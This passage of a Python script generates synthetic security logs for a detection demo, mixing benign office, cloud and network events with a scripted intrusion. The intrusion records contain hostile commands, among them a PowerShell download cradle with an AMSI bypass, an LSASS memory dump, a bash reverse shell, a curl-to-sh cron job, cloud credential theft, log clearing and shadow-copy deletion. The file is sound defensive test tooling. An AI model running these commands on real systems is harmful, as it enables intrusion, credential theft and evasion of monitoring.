            ("kms", "Decrypt", {"encryptionAlgorithm": "SYMMETRIC_DEFAULT"})]


def benign_process(w, ms, number):
    rng = w.rng
    host = rng.choice(WINDOWS[:3]) if rng.random() < 0.85 else rng.choice(WINDOWS[3:])
    work = OFFICE_WORK if host in WINDOWS[:3] else [p for p in OFFICE_WORK if p[4] == "SYSTEM"]
    image, line, parent, parent_line, who, level = rng.choice(work)
    w.process(host, ms, image, line.format(u=host.user, n=number), parent,
              parent_line, who, level)


def benign_windows(w, ms, number):
    """Sysmon events other than process creation, and the Security log."""
    rng = w.rng
    host = rng.choice(WINDOWS[:3])
    kind = rng.randrange(10)
    fill = {"u": host.user, "n": number}
    if kind == 0:
        image, path = rng.choice(BENIGN_FILES)
        w.file_created(host, ms, image, path.format(**fill))
    elif kind == 1:
        image, key, details = rng.choice(BENIGN_KEYS)
        w.registry_set(host, ms, image, key.format(**fill), details)
    elif kind in (2, 3):
        w.connection(host, ms, rng.choice([CHROME, TEAMS, OFFICE + "OUTLOOK.EXE"]),
                     "192.0.2.%d" % rng.randrange(10, 90), 443, rng.choice(SITES))
    elif kind in (4, 5):
        name = rng.choice(SITES)
        w.dns_query(host, ms, rng.choice([CHROME, SVCHOST, TEAMS]), name,
                    "::ffff:192.0.2.%d;" % (10 + len(name)))
    elif kind == 6:
        image, dll = rng.choice(BENIGN_DLLS)
        w.image_load(host, ms, image, dll)
    elif kind == 7:
        w.process_access(host, ms, DEFENDER_EXE, SYS32 + "lsass.exe", "0x1000",
                         SYS32 + "ntdll.dll+9d4c4|UNKNOWN(00007FF8)")
    elif kind == 8:
        w.logon(rng.choice([DC, FS]), ms, host.user, 3, host.ip,
                sid_tail=1104 + WINDOWS.index(host))
    else:
        w.windows(DC, SECURITY, 4769, ms, {
            "TargetUserName": mail(host.user), "TargetDomainName": DNS_SUFFIX.upper(),
            "ServiceName": rng.choice(["FS-01$", "DC-01$", "krbtgt"]), "ServiceSid": sid(1001),
            "TicketOptions": "0x40810000", "TicketEncryptionType": "0x12",
            "IpAddress": "::ffff:" + host.ip, "IpPort": str(rng.randrange(49152, 65535)),
            "Status": "0x0", "LogonGuid": "{%s}" % uuid_of(host.user, 0),
            "TransmittedServices": "-"})


def benign_linux(w, ms, number):
    rng = w.rng
    if rng.random() < 0.65:
        image, line, parent, parent_line, user = rng.choice(LINUX_WORK)
        w.linux_process(WEB, ms, image, line.format(n=number), parent, parent_line, user)
    elif rng.random() < 0.5:
        w.linux_file(WEB, ms, "/usr/bin/php", "/var/www/shop/var/cache/%d.bin" % number, "www-data")
    else:
        argv, exe = rng.choice(AUDIT_WORK)
        w.audit_execve(ms, argv, exe)


def benign_cloud(w, ms, number):
    rng = w.rng
    kind = rng.randrange(6)
    if kind < 3:
        source, name, request = rng.choice(AWS_WORK)
        w.cloudtrail(ms, source, name, rng.choice(["deploy-bot", "cara.diaz"]), "192.0.2.14",
                     request, read_only=True)
    elif kind == 3:
        user = rng.choice(WINDOWS[:3]).user
        w.okta(ms, "user.session.start", "User login to Okta", user, "192.0.2.14",
               debug={"requestUri": "/api/v1/authn", "behaviors":
                      "{New Geo-Location=NEGATIVE, New Device=NEGATIVE, New IP=NEGATIVE}"})
    else:
        verb, resource = rng.choice([("get", "pods"), ("list", "pods"), ("watch", "configmaps"),
                                     ("patch", "deployments"), ("update", "leases")])
        w.kubernetes(ms, verb, resource, rng.choice([
            "system:serviceaccount:kube-system:replicaset-controller",
            "system:node:worker-%d" % rng.randrange(1, 4), "cara.diaz"]), "10.20.3.4",
                     name="shop-%d" % (number % 9))


def benign_network(w, ms, number):
    rng = w.rng
    host = rng.choice(WINDOWS[:3])
    name = rng.choice(SITES)
    address = "192.0.2.%d" % (10 + len(name))
    kind = rng.randrange(4)
    if kind < 2:
        w.zeek_dns(ms, host.ip, name, rng.choice(["A", "A", "AAAA"]), [address])
    elif kind == 2:
        w.zeek_conn(ms, host.ip, address, 443, rng.randrange(600, 90000),
                    rng.randrange(2000, 900000))
    else:
        w.zeek_http(ms, host.ip, address, name, "GET", "/assets/page-%d.html" % number,
                    BROWSER_AGENT, rng.choice([200, 200, 200, 404]), rng.randrange(300, 40000))


def benign_day(w, count):
    """`count` records, dense in office hours."""
    kinds = [benign_process] * 9 + [benign_windows] * 8 + [benign_linux] * 3 + [
        benign_cloud] * 2 + [benign_network] * 4
    target = len(w.records) + count
    number = 0
    while len(w.records) < target:
        number += 1
        x = w.rng.random()
        y = w.rng.random()
        spread = (x + y) / 2 if number % 3 else x
        ms = int(1000 * (DAY_START_S + spread * (DAY_END_S - DAY_START_S)))
        w.rng.choice(kinds)(w, ms, number)


def honest_admins(w):
    """Legitimate work that looks a little like an intrusion: every sensor sees some."""
    w.process(CARA, at("08:21:14"), SYS32 + "whoami.exe", "whoami /groups", SYS32 + "cmd.exe",
              "cmd.exe", integrity="High")
    w.process(CARA, at("08:24:02"), SYS32 + "nltest.exe",
              "nltest /dsgetdc:" + DNS_SUFFIX, SYS32 + "cmd.exe", "cmd.exe", integrity="High")
    w.process(CARA, at("13:44:40"), SYS32 + "net.exe", 'net group "Domain Admins" /domain', PS,
              "powershell.exe", integrity="High")
    w.process(CARA, at("14:02:51"), SYS32 + "schtasks.exe",
              'schtasks /create /tn "Hayloft report" /tr "C:\\Program Files\\Hayloft Backup\\'
              'report.exe" /sc daily', SYS32 + "cmd.exe", "cmd.exe", integrity="High")
    w.kubernetes(at("15:10:05"), "create", "pods", "cara.diaz", "10.20.1.23", name="shop-4",
                 subresource="exec", code=101)
    w.cloudtrail(at("15:31:47"), "iam", "CreateAccessKey", "cara.diaz", "192.0.2.14",
                 {"userName": "deploy-bot"},
                 {"accessKey": {"userName": "deploy-bot", "status": "Active"}})
    w.script_block(CARA, at("16:05:12"),
                   "Get-ADUser -Filter * -Properties LastLogonDate | Sort-Object LastLogonDate")


# --- the intrusion --------------------------------------------------------------------------------

ANNA_TEMP = "C:\\Users\\anna.berg\\AppData\\Local\\Temp\\"
LOADER = "$c=New-Object Net.WebClient;IEX $c.DownloadString('http://%s/r/stage.ps1')" % C2_NAME


def encoded(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


def phishing(w):
    word = OFFICE + "WINWORD.EXE"
    document = "C:\\Users\\anna.berg\\Downloads\\Invoice_4471.docm"
    word_line = '"%s" /n "%s"' % (word, document)
    w.file_created(ANNA, at("09:11:58"), OFFICE + "OUTLOOK.EXE", document)
    w.process(ANNA, at("09:12:30"), word, word_line, OFFICE + "OUTLOOK.EXE",
              '"%sOUTLOOK.EXE"' % OFFICE)
    script = ANNA_TEMP + "upd4471.js"
    w.file_created(ANNA, at("09:12:41"), word, script)
    w.process(ANNA, at("09:12:42"), SYS32 + "wscript.exe",
              'wscript.exe //B //Nologo "%s"' % script, word, word_line)
    w.image_load(ANNA, at("09:12:43"), SYS32 + "wscript.exe",
                 "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll")
    w.dns_query(ANNA, at("09:12:44"), SYS32 + "wscript.exe", C2_NAME, "::ffff:%s;" % C2_IP)
    w.zeek_dns(at("09:12:44.020"), ANNA.ip, C2_NAME, "A", [C2_IP])
    w.connection(ANNA, at("09:12:45"), SYS32 + "wscript.exe", C2_IP, 80, C2_NAME)


def download_and_persistence(w):
    line = "powershell.exe -NoP -W Hidden -Exec Bypass -Enc " + encoded(LOADER)
    w.process(ANNA, at("09:13:02"), PS, line, SYS32 + "wscript.exe", "wscript.exe //B")
    w.script_block(ANNA, at("09:13:02.600"), "$a='A'+'msiUtils';$t=$x.GetTypes()|?{$_.Name -eq $a};"
                   "$t.GetField('amsiInitFailed',$b).SetValue($null,$true)")
    w.script_block(ANNA, at("09:13:03"), LOADER)
    w.connection(ANNA, at("09:13:04"), PS, C2_IP, 80, C2_NAME)
    w.zeek_http(at("09:13:04.200"), ANNA.ip, C2_IP, C2_NAME, "GET", "/r/stage.ps1",
                "Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.19041.3996",
                size=48211)
    agent = "C:\\Users\\anna.berg\\AppData\\Roaming\\SyncHost\\synchost.exe"
    w.process(ANNA, at("09:14:10"), SYS32 + "certutil.exe",
              "certutil -urlcache -split -f http://%s/r/sync.bin %s" % (C2_IP, agent), PS, line)
    w.zeek_http(at("09:14:10.150"), ANNA.ip, C2_IP, C2_IP, "GET", "/r/sync.exe",
                "CertUtil URL Agent", size=231424)
    w.file_created(ANNA, at("09:14:12"), SYS32 + "certutil.exe", agent)
    w.registry_set(ANNA, at("09:15:20"), PS, "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\"
                   "CurrentVersion\\Run\\SyncHost", '"%s" --quiet' % agent)
    w.process(ANNA, at("09:16:05"), SYS32 + "schtasks.exe",
              'schtasks /create /sc minute /mo 30 /tn "SyncHost Update" /tr "%s" /f' % agent, PS,
              line)
    w.windows(ANNA, SECURITY, 4698, at("09:16:22"), {
        "SubjectUserSid": sid(1104), "SubjectUserName": "anna.berg", "SubjectDomainName": NETBIOS,
        "SubjectLogonId": logon_id(account("anna.berg")), "TaskName": "\\SyncHost Repair",
        "TaskContent": "<Task><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>"
                       "powershell.exe</Command><Arguments>-w hidden -enc %s</Arguments></Exec>"
                       "</Actions></Task>" % encoded(LOADER)})
    w.process(ANNA, at("09:16:40"), agent, '"%s" --quiet' % agent, PS, line)
    for beat in range(6):
        w.connection(ANNA, at("09:20:00") + beat * 301000, agent, C2_IP, 443, C2_NAME)


def discovery(w):
    shell = SYS32 + "cmd.exe"
    agent = "C:\\Users\\anna.berg\\AppData\\Roaming\\SyncHost\\synchost.exe"
    w.process(ANNA, at("09:22:00"), shell, "cmd.exe /q", agent, '"%s" --quiet' % agent)
    commands = ["whoami /all", "ipconfig /all", "systeminfo", "net user /domain",
                'net group "Domain Admins" /domain', "nltest /domain_trusts /all_trusts",
                "nltest /dclist:larkfield", "tasklist /v", "quser /server:fs-01"]
    for i, command in enumerate(commands):
        w.process(ANNA, at("09:22:08") + i * 6500, SYS32 + command.split(" ")[0] + ".exe", command,
                  shell, "cmd.exe /q")


def credential_access(w):
    shell = SYS32 + "cmd.exe"
    w.registry_set(ANNA, at("09:31:15"), SYS32 + "reg.exe", "HKLM\\SOFTWARE\\Policies\\Microsoft\\"
                   "Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
                   "DWORD (0x00000001)", "SYSTEM")
    w.windows(ANNA, DEFENDER, 5001, at("09:31:18"), {
        "Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.24090.11"})
    w.registry_set(ANNA, at("09:32:40"), SYS32 + "reg.exe", "HKLM\\System\\CurrentControlSet\\"
                   "Control\\SecurityProviders\\WDigest\\UseLogonCredential", "DWORD (0x00000001)",
                   "SYSTEM")
    w.process(ANNA, at("09:33:30"), shell, "cmd.exe /q", "C:\\Users\\anna.berg\\AppData\\Roaming\\"
              "SyncHost\\synchost.exe", "synchost.exe --quiet", "SYSTEM", "System",
              parent_who="anna.berg")
    dump = "C:\\Users\\Public\\lsass-0917.dmp"
    w.process(ANNA, at("09:34:05"), SYS32 + "rundll32.exe",
              "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 %s full" % dump, shell,
              "cmd.exe /q", "SYSTEM", "System")
    w.image_load(ANNA, at("09:34:06"), SYS32 + "rundll32.exe", SYS32 + "dbgcore.dll", who="SYSTEM")
    w.process_access(ANNA, at("09:34:06.200"), SYS32 + "rundll32.exe", SYS32 + "lsass.exe",
                     "0x1fffff", SYS32 + "ntdll.dll+9d4c4|" + SYS32 + "dbgcore.dll+68aa")
    w.file_created(ANNA, at("09:34:07"), SYS32 + "rundll32.exe", dump, "SYSTEM")


def lateral_movement(w):
    w.connection(ANNA, at("09:49:50"), "C:\\Users\\anna.berg\\AppData\\Roaming\\SyncHost\\"
                 "synchost.exe", FS.ip, 445, "fs-01")
    w.zeek("dce_rpc", at("09:49:55"), ANNA.ip, FS.ip, 445, {
        "rtt": 0.0007, "named_pipe": "\\pipe\\svcctl", "endpoint": "svcctl",
        "operation": "CreateServiceW"})
    w.logon(FS, at("09:49:52"), "Administrator", 3, ANNA.ip, "NTLM", sid_tail=500)
    w.windows(FS, SYSTEM, 7045, at("09:50:01"), {
        "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\kTbWqLma.exe",
        "ServiceType": "user mode service", "StartType": "demand start",
        "AccountName": "LocalSystem"})
    w.process(FS, at("09:50:02"), "C:\\Windows\\kTbWqLma.exe", "C:\\Windows\\kTbWqLma.exe",
              SERVICES, SERVICES, "SYSTEM", "System")
    w.sysmon(FS, 17, at("09:50:03"), "C:\\Windows\\kTbWqLma.exe", {
        "EventType": "CreatePipe", "PipeName": "\\PSEXESVC-WKS-ANNA-5120-stdin"}, "SYSTEM")
    w.process(FS, at("09:50:10"), SYS32 + "cmd.exe", "cmd.exe", "C:\\Windows\\kTbWqLma.exe",
              "C:\\Windows\\kTbWqLma.exe", "SYSTEM", "System")
    w.process(FS, at("09:53:44"), SYS32 + "wbem\\WMIC.exe",
              'wmic /node:"dc-01" process call create "cmd.exe /c ipconfig > '
              'C:\\Windows\\Temp\\o.txt"', SYS32 + "cmd.exe", "cmd.exe", "SYSTEM", "System",
              original="wmic.exe")
    w.sysmon(FS, 20, at("09:58:20"), SYS32 + "wbem\\WmiPrvSE.exe", {
        "EventType": "WmiConsumerEvent", "Operation": "Created", "Name": '"Storage Sync"',
        "Type": "Command Line", "Destination": '"cmd.exe /c C:\\Windows\\kTbWqLma.exe"'}, "SYSTEM")
    w.windows(DC, SECURITY, 4769, at("10:02:10"), {
        "TargetUserName": mail("anna.berg"), "TargetDomainName": DNS_SUFFIX.upper(),
        "ServiceName": "svc-sql", "ServiceSid": sid(1203), "TicketOptions": "0x40810000",
        "TicketEncryptionType": "0x17", "IpAddress": "::ffff:" + ANNA.ip, "IpPort": "52113",
        "Status": "0x0", "LogonGuid": "{%s}" % uuid_of("anna", 1), "TransmittedServices": "-"})
    w.windows(DC, SECURITY, 4662, at("10:05:31"), {
        "SubjectUserSid": sid(500), "SubjectUserName": "Administrator",
        "SubjectDomainName": NETBIOS, "SubjectLogonId": "0x5c21aa", "ObjectServer": "DS",
        "ObjectType": "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
        "ObjectName": "%{3f5c9f0e-20b7-4a53-8a35-0d38f9a40b51}", "OperationType": "Object Access",
        "HandleId": "0x0", "AccessList": "%%7688", "AccessMask": "0x100",
        "Properties": "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}", "AdditionalInfo": "-",
        "AdditionalInfo2": ""})
    w.windows(DC, SECURITY, 4732, at("10:08:12"), {
        "MemberName": "-", "MemberSid": sid(1190), "TargetUserName": "Administrators",
        "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544", "SubjectUserSid": sid(500),
        "SubjectUserName": "Administrator", "SubjectDomainName": NETBIOS,
        "SubjectLogonId": "0x5c21aa", "PrivilegeList": "-"})


def linux_servers(w):
    fpm, fpm_line = "/usr/sbin/php-fpm8.2", "php-fpm: pool www"
    w.linux_file(WEB, at("10:20:05"), fpm, "/var/www/shop/public/uploads/img_771.php", "www-data")
    w.zeek_http(at("10:20:30"), "198.51.100.23", WEB.ip, "shop.example.com", "GET",
                "/uploads/img_771.php?cmd=id", "python-requests/2.31.0")
    w.linux_process(WEB, at("10:20:30.100"), "/usr/bin/dash", "sh -c id", fpm, fpm_line, "www-data")
    payload = base64.b64encode(b"exec 5<>/dev/tcp/203.0.113.66/8443").decode()
    w.linux_process(WEB, at("10:21:12"), "/usr/bin/dash",
                    'sh -c "echo %s | base64 -d | bash"' % payload, fpm, fpm_line, "www-data")
    w.linux_process(WEB, at("10:21:13"), "/usr/bin/bash",
                    "bash -c bash -i >& /dev/tcp/%s/8443 0>&1" % C2_IP, "/usr/bin/dash", "sh",
                    "www-data")
    w.linux_connection(WEB, at("10:21:13.300"), "/usr/bin/bash", C2_IP, 8443, "www-data")
    w.linux_process(WEB, at("10:24:40"), "/usr/bin/curl",
                    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"
                    "shop-web", "/usr/bin/bash", "bash -i", "www-data")
    w.linux_process(WEB, at("10:26:02"), "/usr/bin/bash",
                    'bash -c (crontab -l; echo "*/10 * * * * curl -s http://%s/c | sh") | crontab -'
                    % C2_IP, "/usr/bin/bash", "bash -i", "www-data")
    w.linux_file(WEB, at("10:27:30"), "/usr/bin/bash", "/etc/cron.d/sysstat-sync")
    w.linux_file(WEB, at("10:28:10"), "/usr/bin/bash", "/home/deploy/.ssh/authorized_keys")
    w.audit_execve(at("10:31:00"), ["cat", "/etc/shadow"], "/usr/bin/cat", uid=0)
    w.audit_execve(at("10:32:15"), ["useradd", "-o", "-u", "0", "-g", "0", "sysd"],
                   "/usr/sbin/useradd", uid=0)
    w.audit_path(at("10:33:40"), "/etc/ld.so.preload", "CREATE")


def cloud_accounts(w):
    bad = "198.51.100.23"
    w.cloudtrail(at("10:40:01"), "sts", "GetCallerIdentity", "deploy-bot", bad, read_only=True)
    w.cloudtrail(at("10:41:20"), "cloudtrail", "StopLogging", "deploy-bot", bad,
                 {"name": "arn:aws:cloudtrail:eu-central-1:%s:trail/main" % ACCOUNT})
    w.cloudtrail(at("10:43:05"), "iam", "CreateAccessKey", "deploy-bot", bad,
                 {"userName": "backup-admin"},
                 {"accessKey": {"userName": "backup-admin", "status": "Active"}})
    w.cloudtrail(at("10:47:33"), "signin", "ConsoleLogin", "backup-admin", bad, None,
                 {"ConsoleLogin": "Success"}, agent=BROWSER_AGENT, eventType="AwsConsoleSignIn",
                 additionalEventData={"LoginTo": "https://console.aws.amazon.com/",
                                      "MobileVersion": "No", "MFAUsed": "No"})
    w.cloudtrail(at("10:52:18"), "ec2", "AuthorizeSecurityGroupIngress", "backup-admin", bad, {
        "groupId": "sg-0a1b2c3d", "ipPermissions": {"items": [{
            "ipProtocol": "tcp", "fromPort": 22, "toPort": 22,
            "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}}, {"_return": True})
    w.okta(at("11:00:10"), "policy.evaluate_sign_on", "Evaluation of sign-on policy", "cara.diaz",
           bad, debug={"requestUri": "/idp/idx/identify", "behaviors":
                       "{New Geo-Location=POSITIVE, New Device=POSITIVE, New IP=POSITIVE}"})
    w.okta(at("11:01:44"), "user.mfa.factor.reset_all", "Reset all factors for user", "cara.diaz",
           bad, "ben.cole")
    w.okta(at("11:03:20"), "user.account.privilege.grant", "Grant user privilege", "cara.diaz", bad,
           "ben.cole", debug={"requestUri": "/api/v1/users/ben.cole/roles",
                              "privilegeGranted": "Super administrator"}, severity="WARN")


def cluster(w):
    sa = "system:serviceaccount:shop:frontend"
    w.kubernetes(at("11:12:30"), "list", "secrets", "system:anonymous", DROP_IP)
    w.kubernetes(at("11:14:02"), "create", "pods", sa, "10.20.2.31", name="shop-1",
                 subresource="exec", code=101)
    w.kubernetes(at("11:16:48"), "create", "pods", sa, "10.20.2.31", "kube-system", "node-metrics",
                 code=201, body={
                     "kind": "Pod", "apiVersion": "v1", "metadata": {"name": "node-metrics"},
                     "spec": {"hostPID": True, "containers": [{
                         "name": "m", "image": "registry.example.net/alpine:3",
                         "securityContext": {"privileged": True}}],
                              "volumes": [{"name": "root", "hostPath": {"path": "/"}}]}})
    w.kubernetes(at("11:19:30"), "create", "clusterrolebindings", sa, "10.20.2.31", "", "metrics",
                 code=201, group="rbac.authorization.k8s.io", body={
                     "kind": "ClusterRoleBinding", "roleRef": {
                         "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                         "name": "cluster-admin"},
                     "subjects": [{"kind": "ServiceAccount", "name": "frontend",
                                   "namespace": "shop"}]})


def exfiltration(w):
    for i in range(40):
        chunk = hashlib.sha256(b"finance %d" % i).hexdigest()[:52]
        w.zeek_dns(at("11:30:00") + i * 1900, ANNA.ip, "%s.%d.%s" % (chunk, i, TUNNEL), "TXT",
                   ['TXT 4 ok%02d' % i])
    tool = "C:\\Users\\Public\\svchst.exe"
    w.process(FS, at("11:52:20"), tool, "svchst.exe copy E:\\finance remote:in --config "
              "C:\\Users\\Public\\s.conf --transfers 8", SYS32 + "cmd.exe", "cmd.exe", "SYSTEM",
              "System", original="rclone.exe")
    w.zeek_conn(at("12:14:02"), FS.ip, DROP_IP, 443, 734003200, 91822)


def cleanup(w):
    shell = SYS32 + "cmd.exe"
    w.process(FS, at("12:30:11"), SYS32 + "vssadmin.exe", "vssadmin delete shadows /all /quiet",
              shell, "cmd.exe", "SYSTEM", "System")
    w.process(FS, at("12:31:02"), SYS32 + "wevtutil.exe", "wevtutil cl Security", shell, "cmd.exe",
              "SYSTEM", "System")
    cleared = {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "SYSTEM",
               "SubjectDomainName": "NT AUTHORITY", "SubjectLogonId": "0x3e7"}
    w.windows(FS, SECURITY, 1102, at("12:31:02.400"), cleared)
    w.windows(DC, SYSTEM, 104, at("12:33:15"), dict(cleared, Channel="System", BackupPath=""))
    w.linux_process(WEB, at("12:35:40"), "/usr/bin/bash",
                    "bash -c unset HISTFILE; rm -f /home/admin/.bash_history", "/usr/bin/bash", "bash -i")


def intrusion(w):
    for stage in (phishing, download_and_persistence, discovery, credential_access,
                  lateral_movement, linux_servers, cloud_accounts, cluster, exfiltration, cleanup):
        stage(w)


def main():
    parser = argparse.ArgumentParser(description="Writes the demo's events as NDJSON.")
    parser.add_argument("--events", type=int, default=5000, help="records in all (default 5000)")
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED)
    parser.add_argument("--benign-only", action="store_true", help="leave the intrusion out")
    args = parser.parse_args()
    world = World(args.seed)
    if not args.benign_only:
        intrusion(world)
    honest_admins(world)
    if args.events < len(world.records):
        parser.error("--events must be at least %d" % len(world.records))
    benign_day(world, args.events - len(world.records))
    del world.records[args.events:]
    world.write(sys.stdout)


if __name__ == "__main__":
    sys.stdout.reconfigure(encoding="utf-8", newline="\n")
    main()
